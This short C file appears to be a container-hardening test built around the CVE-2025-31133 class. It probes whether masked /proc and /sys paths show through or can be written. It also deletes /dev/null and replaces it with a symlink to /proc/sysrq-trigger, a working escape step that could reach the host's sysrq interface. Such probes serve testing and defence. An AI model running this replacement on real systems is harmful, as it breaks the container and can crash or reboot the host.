/* CVE-2025-31133 class: what covers a masked path must be what the engine meant, and stay. */
#include "attack.h"
#include <sys/mount.h>
#include <sys/vfs.h>
#include <linux/magic.h>

static const char *const masked[] = { "/proc/acpi", "/proc/asound", "/proc/kcore", "/proc/keys", "/proc/latency_stats", "/proc/timer_list",
                                      "/proc/timer_stats", "/proc/sched_debug", "/proc/scsi", "/proc/interrupts", "/sys/firmware",
                                      "/sys/devices/virtual/powercap" };
static const char *const read_only[] = { "/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger" };

/* Covered by something that is neither procfs nor sysfs (a tmpfs, or the null device), or not there at all. */
static bool shows_through(const char *path)
{
        struct statfs fs;
        if (statfs(path, &fs) < 0)
                return false;
        errno = EACCES;
        return fs.f_type == PROC_SUPER_MAGIC || fs.f_type == SYSFS_MAGIC;
}

static bool is_writable(const char *path)
{
        struct statfs fs;
        if (statfs(path, &fs) < 0)
                return false;
        errno = EROFS;
        return !(fs.f_flags & 1 /* ST_RDONLY */);
}

static bool replace_null_device(void)
{
        /* the source of the masks must not be the container's own /dev/null, which it may replace */
        if (unlink("/dev/null") < 0 || symlink("/proc/sysrq-trigger", "/dev/null") < 0)
                return false;
        return access("/dev/null", W_OK) == 0;
}

int main(void)
{
        for (size_t i = 0; i < sizeof(masked) / sizeof(masked[0]); i++)
                attempt(masked[i], shows_through(masked[i]));
        for (size_t i = 0; i < sizeof(read_only) / sizeof(read_only[0]); i++)
                attempt(read_only[i], is_writable(read_only[i]));
        attempt("/dev/null replaced by a link into /proc", replace_null_device());
        return verdict();
}
